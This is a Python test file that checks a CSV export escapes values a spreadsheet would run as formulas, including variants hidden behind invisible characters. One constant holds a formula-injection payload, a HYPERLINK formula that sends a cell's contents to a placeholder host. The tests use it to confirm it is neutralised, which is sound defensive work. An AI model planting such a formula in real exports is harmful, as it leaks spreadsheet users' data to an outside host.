"""Tables for spreadsheets: no text of a device or a person is run as a formula."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.csv_text import csv_cell, csv_text
from api.roles import Role
from support.api_city import a_device, client_of
from support.api_world import World, a_world

HIDDEN = ("", " ", "\t", "\u00a0", "\u200b", "\ufeff", "\u202e", "\x00", "\u3000", "\x85")
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")  # noqa: RUF001 - spreadsheets take them
ATTACK = '=HYPERLINK("http://x/?"&A1,"查看")'


def read(text: str) -> list[list[str]]:
    """The table as a reader of RFC 4180 has it."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("sign", SIGNS, ids=[f"u{ord(sign):04x}" for sign in SIGNS])
def test_a_formula_is_text(sign: str) -> None:
    """Also behind blanks and signs that nobody sees."""
    for hidden in HIDDEN:
        [[cell]] = read(csv_cell(f"{hidden}{sign}1+1"))

        assert cell.startswith("'"), repr(hidden)


@pytest.mark.parametrize("text", ["\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx"])
def test_text_behind_a_tab_or_a_line_end_is_text(text: str) -> None:
    """A spreadsheet drops them and looks at what comes next."""
    [[cell]] = read(csv_cell(text))

    assert cell.startswith("'")


@pytest.mark.parametrize("number", [-5, -0.5, 1e-7, 17])
def test_numbers_stay_numbers(number: float) -> None:
    """A minus before a number is no formula: no apostrophe, no quotes."""
    assert csv_cell(number) == repr(number)


@pytest.mark.parametrize("nothing", [None, float("nan"), float("inf")])
def test_unknown_is_empty(nothing: float | None) -> None:
    """As null in JSON."""
    assert csv_cell(nothing) == ""


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=4))
def test_any_text_comes_back_and_never_begins_as_a_formula(rows: list[list[str]]) -> None:
    """The table keeps its shape; nothing is lost but what cannot be read."""
    found = read(csv_text(("a", "b"), rows))

    assert [len(row) for row in found] == [2] * (len(rows) + 1)
    for cell in (cell for row in found for cell in row):
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))  # noqa: RUF001
        assert not cell.startswith(("\t", "\r", "\n"))


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    """A city with a device whose model somebody chose with care."""
    world = a_world(tmp_path)
    a_device(world, "x", vehicle_id=None, model=ATTACK)
    yield world
    world.engine.dispose()


def test_a_devices_table_runs_nothing_and_json_is_as_it_was(world: World) -> None:
    """The whole way, by the API."""
    client, headers = client_of(world), world.headers(Role.OPERATOR)

    table = read(client.get("/v1/devices?format=csv", headers=headers).text)
    device = client.get("/v1/devices", headers=headers).json()["devices"][0]

    assert table[1][table[0].index("model")] == f"'{ATTACK}"
    assert device["model"] == ATTACK
